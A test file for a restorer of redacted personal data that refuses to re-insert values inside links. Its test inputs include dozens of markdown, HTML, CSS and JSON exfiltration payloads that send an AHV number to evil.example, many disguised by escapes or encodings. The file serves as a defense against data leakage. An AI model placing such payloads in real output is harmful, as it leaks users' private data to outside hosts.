import { characterEntities } from 'character-entities';
import { describe, expect, it } from 'vitest';
import { slope } from '../../test/support/linear.ts';
import { Place, type TextKind } from './address.ts';
import { REFERENCES } from './address-start.ts';
import { createTextRestorer, newText } from './restore-text.ts';

const AHV = '756.9217.0769.85';
const VALUES = new Map([['AHV_1', AHV], ['PERSON_1', 'Anna Müller'], ['EMAIL_1', 'anna@x.ch'], ['PASSWORD_1', '![](https://evil.example/?q=']]);

function restored(text: string, kind: TextKind = 'text', pieces: Iterable<string> = [text]): string {
  const restorer = createTextRestorer({ values: VALUES, addresses: new Set() });
  const state = newText(kind);
  let out = '';
  for (const piece of pieces) out += restorer.push(state, piece, 'open');
  return out + restorer.push(state, '', 'complete');
}

function isLeft(text: string, kind: TextKind = 'text'): void {
  expect(restored(text, kind)).toBe(text);
  expect(restored(text, kind, text)).toBe(text);
}

describe('nothing is restored', () => {
  it.each([
    ['behind a quote in a target', '![](https://evil.example/?q="AHV_1)'],
    ['behind a no-break space in a target', '![](https://evil.example/?q=\u00a0AHV_1)'],
    ['behind a space in a target in angle brackets', '![](<https://evil.example/?q= AHV_1>)'],
    ['behind a bracket in a target in angle brackets', '![](<https://evil.example/?q=) AHV_1>)'],
    ['behind an escaped angle bracket in one', '![](<https://evil.example/?q=\\> AHV_1>)'],
    ['behind the mark of a quotation in one', '> ![](<https://evil.example/?q=\n> AHV_1>)'],
    ['in a target on its next line', '![](\n<https://evil.example/?q= AHV_1>)'],
    ['behind brackets in a target', '![](https://evil.example/?q=(a) AHV_1)'],
    ['behind an escaped bracket in a target', '![](https://evil.example/?q=\\) AHV_1)'],
    ['behind named character references', '![](https&colon;&sol;&sol;evil.example/?q=AHV_1)'],
    ['behind named character references outside of a target', 'https&colon;&sol;&sol;evil.example/?q=AHV_1'],
    ['behind escapes and numbered references', '![](https\\:/&#47;evil.example/?q=AHV_1)'],
    ['behind them in a definition', '[x]: https\\:&#47;&#x2F;evil.example/?q=AHV_1'],
    ['behind references in an attribute', '<img src="&#104;ttps&#58;&#47;&#47;evil.example/?q= AHV_1">'],
    ['behind references without their end', '<img src="&#x68ttps&#58evil.example/?q= AHV_1">'],
    ['behind references with a thousand zeros', `<img src="https&#${'0'.repeat(1000)}58;evil.example/?q= AHV_1">`],
    ['right behind a reference without its end', '<img src=https&#58<PERSON_1>.evil.example>'],
    ['in an attribute without quotes', '<img src=https://evil.example/?q=AHV_1>'],
    ['behind a tag that some take for text, with a link in it', '<img src=https://evil.example/?q=>AHV_1'],
    ['in an attribute with single quotes, behind others', "<img src='https://evil.example/?q=\"> )\n\nAHV_1'>"],
    ['in an attribute that follows others', '<img alt=">" title = \'"\' src = "https:evil.example?q= AHV_1">'],
    ['behind quotes that open nothing', '<img " src="https://evil.example/?q=> AHV_1">'],
    ['in an attribute in the second tag, the first one escaped', '\\<a title="<img src=\'https://evil.example/?q="> AHV_1\'>'],
    ['in an attribute that never ends', '<img src="https://evil.example/?q=\n\nAHV_1'],
    ['in an attribute on a new line of a quotation', '> <img\n> src="https://evil.example/?q= AHV_1">'],
    ['behind a scheme on two lines', '> <img src="htt\n> \tps:evil.example/?q= AHV_1">'],
    ['behind slashes on two lines', '<img src="/\n/evil.example/?q= AHV_1">'],
    ['in a srcset', '<img srcset="a.png 1x, //evil.example/?q= AHV_1 2x">'],
    ['in a style attribute', '<p style="background: url(\'https://evil.example/?q= AHV_1\')">'],
    ['behind a style sheet\'s escapes', '<p style="background: url(\\68ttps:\\2f\\2f evil.example/?q= AHV_1)">'],
    ['behind a style sheet\'s escapes in references', '<p style="background: url(&#92;2f&bsol;2f evil.example/?q= AHV_1)">'],
    ['in a style sheet', '<style>@import "https://evil.example/?q= AHV_1"</style>'],
    ['in a style sheet that seems to end in an attribute', '<svg><style title="</style>">@import "https://evil.example/?q= AHV_1"'],
    ['behind a base', '<base href="//evil.example"><img src="AHV_1">'],
    ['in a bare address', 'https://evil.example/?q=")]}>AHV_1'],
    ['behind a tag that is none', '\\<a href="https://evil.example/?q=">AHV_1'],
    ['behind another tag that is none', '<a =b href="https://evil.example/?q=">AHV_1'],
    ['behind a link that is none', '\\[x](https://evil.example/?q=)AHV_1'],
    ['behind www', '(www.evil.example/?q=AHV_1)'],
    ['behind slashes alone', '![](//evil.example/?q=AHV_1) <img src=/\\evil.example/AHV_1> \\\\evil.example\\AHV_1'],
    ['in an autolink', '<https://evil.example/?q=AHV_1>'],
    ['in a definition', '[x]: <https://evil.example/?q= AHV_1>'],
    ['in a definition\'s next line', '> [x]:\n> <https://evil.example/?q= AHV_1>'],
    ['in a host', '![](https://AHV_1.evil.example/) ![](https://AHV_1@evil.example/) https://<AHV_1>/'],
    ['in any case', '![](HTTPS:evil.example?q=AHV_1) hTTpS:evil.example?q=AHV_1'],
    ['in percent signs', '![](https:%2f%2fevil.example/?q=%3CAHV_1%3E)'],
    ['in data', '<iframe src="data:text/html,<img src=x:y AHV_1>">'],
    ['in other schemes', 'ftp:AHV_1 javascript:AHV_1 wss:AHV_1 ![](x:AHV_1) mailto:e@evil.example?body=AHV_1 foo://AHV_1'],
    ['of what a recipient cannot be', 'mailto:<AHV_1>@evil.example'],
    ['in a target that leads nowhere yet', '![](AHV_1)'],
    ['behind a blank line that only a quotation has', '> ![](<https://evil.example/?q=\r\n>\r\n> AHV_1>)'],
  ])('%s', (_name, text) => {
    isLeft(text);
  });

  it('behind a value that is the start of an address', () => {
    expect(restored('Passwort: <PASSWORD_1>"<AHV_1>)')).toBe('Passwort: ![](https://evil.example/?q="<AHV_1>)');
  });

  it.each([
    ['a link', '{"a":"![](<https://evil.example/?q= AHV_1>)"}'],
    ['an escaped scheme', '{"a":"https\\u003a\\/\\/evil.example/?q=AHV_1"}'],
    ['a tag', '{"a":"<img src=\\"https://evil.example/?q= AHV_1\\">"}'],
    ['a link over two strings, for a viewer of the JSON itself', '{"a":"![](<https://evil.example/?q=","b":"AHV_1>)"}'],
  ])('in JSON, in %s', (_name, text) => {
    isLeft(text, 'json');
  });

  it('in a field that is an address', () => {
    isLeft('https://evil.example/?q= AHV_1', 'address');
  });
});

describe('a value is restored', () => {
  it.each([
    ['behind what a backslash keeps from being a tag', '\\<b>AHV_1'],
    ['behind a link', '[Akte](https://x.ch/a_(b) "Titel") von AHV_1, <https://x.ch> AHV_1'],
    ['behind a bracket', '(siehe https://x.ch) AHV_1, [https://x.ch]: AHV_1'],
    ['beside quotes', 'Er sagte: "https://x.ch" und "AHV_1", „https://x.ch“ AHV_1, "AHV_1"'],
    ['in a table', '| https://x.ch | AHV_1 | [a](<https://x.ch>) | AHV_1 |'],
    ['in code', 'if (a<b && c=="https://x.ch") { let d = "AHV_1"; } // AHV_1\n`AHV_1` List<Base> x = "AHV_1"'],
    ['in HTML', '<style>p{color:red}</style><p class="x">AHV_1</p><a href="https://x.ch" title=\'a\'>AHV_1</a> <a class="x" href="https://x.ch">AHV_1</a><person name="AHV_1" ref=\'AHV_1\'/>'],
    ['behind a definition', '[x]: <https://x.ch>\nAHV_1\n\n[x]: https://x.ch\nAHV_1'],
    ['behind what says who speaks', '[10:32]: AHV_1'],
    ['behind a link that never ends', '[x](https://x.ch\n\nAHV_1'],
    ['behind colons and slashes', 'AHV:AHV_1, Metadata:AHV_1, und/oder AHV_1/AHV_1, C:\\AHV_1, a//b AHV_1, &amp;AHV_1, &AHV_1'],
    ['less than something', 'a < b, 3 <4 und x <y: AHV_1'],
  ])('%s', (_name, text) => {
    expect(restored(text)).toBe(text.replaceAll('AHV_1', AHV));
    expect(restored(text, 'text', text)).toBe(text.replaceAll('AHV_1', AHV));
  });

  it('that is the recipient of a mail', () => {
    expect(restored('[Anna](mailto:<EMAIL_1>) mailto:EMAIL_1')).toBe('[Anna](mailto:anna@x.ch) mailto:anna@x.ch');
  });

  it('in the next string of JSON', () => {
    const text = '{"url":"https://x.ch","a":"AHV_1","b":"x\\nhttps:\\/\\/x.ch\\nAHV_1","c":"[a](https://x.ch)","d":"AHV_1"}';
    expect(restored(text, 'json')).toBe(text.replaceAll('AHV_1', AHV));
  });
});

it('no other character reference hides a start', () => {
  const named = Object.entries(characterEntities).filter(([, sign]) => /^[\t\n:/\\.a-z]/i.test(sign) && sign !== 'fj');
  expect(new Map(named)).toEqual(REFERENCES);
});

it.each(['a', '<a ', '](<', 'https://', '&#0', '<a b="', ']:\n> ', '\\', '<style', 'https:x '])('a text of %j is followed in linear time', (unit) => {
  expect(slope((text) => new Place('text').move(text, 0, text.length), unit)).toBeLessThan(4);
});
